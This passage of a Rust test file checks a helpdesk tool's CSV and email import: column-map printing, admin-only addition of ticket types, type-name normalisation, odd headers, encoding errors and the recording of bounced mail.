2,Jessica Rios,clarkeashley@example.com,42,Billing inquiry,Peripheral compatibility,Charged twice,Open,Low,Chat\n\
3,Christopher Robbins,gonzalestracy@example.com,48,Gift card balance,Network problem,Balance is zero,Closed,High,Email\n";

#[test]
fn a_dry_run_prints_the_map_it_guessed_and_the_printed_map_imports_the_same() {
    let s = Scratch::with_desk();
    let sheet = s.dir.path().join("tickets.csv");
    std::fs::write(&sheet, PREFIXED_SHEET).expect("write");
    let sheet = sheet.to_str().expect("utf-8");
    let printed = ok(&s, &["import", "csv", sheet, "--dry-run", "--print-map"]);
    assert!(printed.contains("title = \"Ticket Subject\""), "{printed}");
    assert!(
        printed.contains("priority = \"Ticket Priority\""),
        "{printed}"
    );
    assert!(
        printed.contains("customer_email = \"Customer Email\""),
        "{printed}"
    );
    assert!(
        printed.contains("# \"Customer Age\" = \"customer_age\""),
        "{printed}"
    );
    // --print-map is for dry runs only: it never imports.
    assert_ne!(code(&s.tdesk(&["import", "csv", sheet, "--print-map"])), 0);
    assert_eq!(ok(&s, &["list", "--json"]).trim(), "[]");
    // Saved and edited (the age kept as a custom field), the map imports.
    let map = s.dir.path().join("map.toml");
    std::fs::write(
        &map,
        printed.replace("# \"Customer Age\"", "\"Customer Age\""),
    )
    .expect("map");
    let out = import_with_map(&s, sheet, &map);
    // Row 3's type is not one of the desk's: refused, nothing imported.
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("Gift card balance"),
        "{}",
        stderr(&out)
    );
    assert_eq!(ok(&s, &["list", "--json"]).trim(), "[]");
}

#[test]
fn an_import_may_add_the_ticket_types_it_brings_but_only_an_admin() {
    let s = Scratch::with_desk();
    let sheet = s.dir.path().join("tickets.csv");
    std::fs::write(&sheet, PREFIXED_SHEET).expect("write");
    let sheet = sheet.to_str().expect("utf-8");
    let dry = ok(&s, &["import", "csv", sheet, "--add-types", "--dry-run"]);
    assert!(
        dry.contains("Would add ticket types: gift-card-balance."),
        "{dry}"
    );
    assert!(!ok(&s, &["workflow", "show", "--toml"]).contains("gift-card-balance"));
    let done = ok(&s, &["import", "csv", sheet, "--add-types"]);
    assert!(
        done.contains("Added ticket types: gift-card-balance"),
        "{done}"
    );
    let tickets: serde_json::Value =
        serde_json::from_str(&ok(&s, &["list", "--json", "--sort", "created"])).expect("json");
    let field = |i: usize, f: &str| tickets[i][f].as_str().unwrap_or_default().to_string();
    let mut seen: Vec<(String, String, String, String)> = (0..3)
        .map(|i| {
            (
                field(i, "title"),
                field(i, "type"),
                field(i, "status"),
                field(i, "priority"),
            )
        })
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            (
                "Network problem".into(),
                "gift-card-balance".into(),
                "closed".into(),
                "P1".into()
            ),
            (
                "Peripheral compatibility".into(),
                "inquiry".into(),
                "new".into(),
                "P3".into()
            ),
            (
                "Product setup".into(),
                "technical".into(),
                "waiting_customer".into(),
                "P0".into()
            ),
        ]
    );
    assert!(
        ok(&s, &["workflow", "show", "--toml"]).contains("label = { en = \"Gift card balance\" }")
    );
    // A supervisor may import, but not grow the desk's list of types.
    let sup = Scratch::with_desk();
    let me = tdesk::service::Identity::current().login;
    ok(&sup, &["user", "add", "boss", "--role", "admin"]);
    ok(&sup, &["user", "set-role", &me, "supervisor"]);
    let refused = sup.tdesk(&["import", "csv", sheet, "--add-types"]);
    assert_ne!(code(&refused), 0);
    assert!(
        stderr(&refused).contains("Only an admin may add ticket types"),
        "{}",
        stderr(&refused)
    );
    assert_eq!(ok(&sup, &["list", "--json"]).trim(), "[]");
}

#[test]
fn added_types_are_one_per_spelling_and_only_those_imported_rows_use() {
    let s = Scratch::with_desk();
    let sheet = s.dir.path().join("types.csv");
    std::fs::write(
        &sheet,
        "Subject,Type,Priority\n\
         a,Inquiry!,low\n\
         b,ZETA  CASE!,low\n\
         c,zeta_case,low\n\
         d,Zeta Case,low\n\
         e,Beta,not-a-priority\n",
    )
    .expect("write");
    let sheet = sheet.to_str().expect("utf-8");
    let out = s.tdesk(&["import", "csv", sheet, "--add-types", "--skip-bad"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let text = stdout(&out);
    // "Inquiry!" is the desk's inquiry; the three spellings of zeta-case are
    // one new type; beta's only row was skipped, so beta is not added.
    assert!(text.contains("Added ticket types: zeta-case "), "{text}");
    assert!(!text.contains("beta"), "{text}");
    let tickets: serde_json::Value =
        serde_json::from_str(&ok(&s, &["list", "--json"])).expect("json");
    let mut kinds: Vec<&str> = tickets
        .as_array()
        .expect("array")
        .iter()
        .map(|t| t["type"].as_str().unwrap_or_default())
        .collect();
    kinds.sort_unstable();
    assert_eq!(kinds, ["inquiry", "zeta-case", "zeta-case", "zeta-case"]);
}

#[test]
fn a_printed_map_reads_back_whatever_the_headers_hold() {
    let s = Scratch::with_desk();
    let sheet = s.dir.path().join("odd.csv");
    // A header with a line break, a repeated unused one, one with no
    // letters, and no column that looks like a title.
    std::fs::write(
        &sheet,
        "Betreff,\"Order\nNo\",Note,Note,!!!,😀\nx,1,n1,n2,b,f\n",
    )
    .expect("write");
    let sheet = sheet.to_str().expect("utf-8");
    let printed = ok(&s, &["import", "csv", sheet, "--dry-run", "--print-map"]);
    assert!(printed.contains("# title = \"COLUMN\""), "{printed}");
    assert!(
        printed.contains("# \"Order\\nNo\" = \"order_no\""),
        "{printed}"
    );
    assert_eq!(printed.matches("# \"Note\"").count(), 1, "{printed}");
    // Uncommented (and the title named), every suggested field is distinct
    // and named: the map reads back and imports.
    let edited = printed
        .replace("# title = \"COLUMN\"", "title = \"Betreff\"")
        .lines()
        .map(|l| match l.strip_prefix("# \"") {
            Some(rest) => format!("\"{rest}"),
            None => l.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n");
    let map = s.dir.path().join("odd.toml");
    std::fs::write(&map, &edited).expect("map");
    let out = import_with_map(&s, sheet, &map);
    // "Note" is in the file twice: which one is meant is unclear.
    assert_eq!(code(&out), 2, "{edited}\n{}", stderr(&out));
    assert!(
        stderr(&out).contains("\"Note\" more than once"),
        "{}",
        stderr(&out)
    );
    assert!(!stderr(&out).contains("--skip-bad"), "{}", stderr(&out));
    // A map with an unnamed custom field or an unknown [values] field is refused.
    std::fs::write(&map, "[columns]\ntitle = \"Betreff\"\n[custom]\n\"!!!\" = \" \"\n[values.priorty]\nhoch = \"P1\"\n").expect("map");
    let out = import_with_map(&s, sheet, &map);
    assert_eq!(code(&out), 2);
    assert!(
        stderr(&out).contains("custom field with no name"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("values.priorty"), "{}", stderr(&out));
}

#[test]
fn a_named_encoding_that_does_not_fit_is_named_in_the_error() {
    let s = Scratch::with_desk();
    let sheet = s.dir.path().join("utf8.csv");
    std::fs::write(&sheet, "标题\n包裹丢了\n").expect("write");
    let sheet = sheet.to_str().expect("utf-8");
    let out = s.tdesk(&[
        "import",
        "csv",
        sheet,
        "--encoding",
        "nonsense",
        "--dry-run",
    ]);
    assert_eq!(code(&out), 2);
    assert!(
        stderr(&out).contains("--encoding names no encoding"),
        "{}",
        stderr(&out)
    );
    let out = s.tdesk(&[
        "import",
        "csv",
        sheet,
        "--encoding",
        "shift_jis",
        "--dry-run",
    ]);
    assert!(
        stderr(&out).contains("does not read cleanly as Shift_JIS"),
        "{}",
        stderr(&out)
    );
}

/// A bounce for a letter the desk sent marks that letter and tells its
/// author — in a Postfix delivery-status report and in a plain Gmail
/// "address not found" — and makes no ticket; a bounce for a letter the
/// desk never sent is left alone.
#[test]
fn a_bounce_marks_the_letter_it_names_and_makes_no_ticket() {
    for sample in ["postfix-dsn.eml", "gmail-daemon.eml"] {
        let s = Scratch::with_desk();
        ok(&s, &["import", "eml", &mail("01-gmail-en.eml")]);
        let outbox = s.dir.path().join("outbox.txt");
        let command = format!("cat >> '{}'", outbox.display());
        ok(
            &s,
            &[
                "mail",
                "set",
                "--from",
                "support@shop.example",
                "--command",
                &command,
            ],
        );
        ok(&s, &["comment", "1", "--body", "We asked customs."]);
        ok(&s, &["mail", "send"]);
        let letter = std::fs::read_to_string(&outbox).expect("sent");
        let id = letter
            .lines()
            .find_map(|l| l.strip_prefix("Message-ID: "))
            .expect("a Message-ID")
            .trim()
            .trim_matches(['<', '>'])
            .to_string();
        let template =
            std::fs::read_to_string(corpus().join("bounces").join(sample)).expect("sample");
        let bounce = s.dir.path().join("bounce.eml");
        std::fs::write(&bounce, template.replace("LETTER-ID@shop.example", &id)).expect("bounce");
        let said = ok(&s, &["import", "eml", bounce.to_str().expect("utf-8")]);
        assert!(
            said.contains("1 bounces recorded") && said.contains("#1"),
            "{sample}: {said}"
        );
        let list = ok(&s, &["list", "--json"]);
        let tickets: serde_json::Value = serde_json::from_str(&list).expect("json");
        assert_eq!(
            tickets.as_array().map(Vec::len),
            Some(1),
            "{sample}: no ticket made"
        );
        let queue = ok(&s, &["mail", "queue"]);
        assert!(queue.contains("came back"), "{sample}: {queue}");
        let shown = ok(&s, &["show", "1"]);
        assert!(shown.contains("came back undelivered"), "{sample}: {shown}");
        let inbox = ok(&s, &["inbox"]);
        assert!(inbox.contains("came back undelivered"), "{sample}: {inbox}");
        // Again: nothing more; for a letter never sent: left alone.
        ok(&s, &["import", "eml", bounce.to_str().expect("utf-8")]);
        std::fs::write(&bounce, template).expect("unknown");
        let said = ok(&s, &["import", "eml", bounce.to_str().expect("utf-8")]);
        assert!(said.contains("named no letter"), "{sample}: {said}");
    }
}

#[test]
fn an_import_names_the_columns_it_left_out() {
    let s = Scratch::new();
    ok(&s, &["init"]);
    let file = s.dir.path().join("zendesk.csv");
    std::fs::write(
        &file,
        "Id,Subject,Status,Organization,Satisfaction\n1,Parcel late,open,Acme,good\n",
    )
    .expect("csv");
    let out = ok(&s, &["import", "csv", file.to_str().expect("path")]);
    assert!(
        out.contains("Columns not imported: Organization, Satisfaction"),
        "{out}"
    );
}
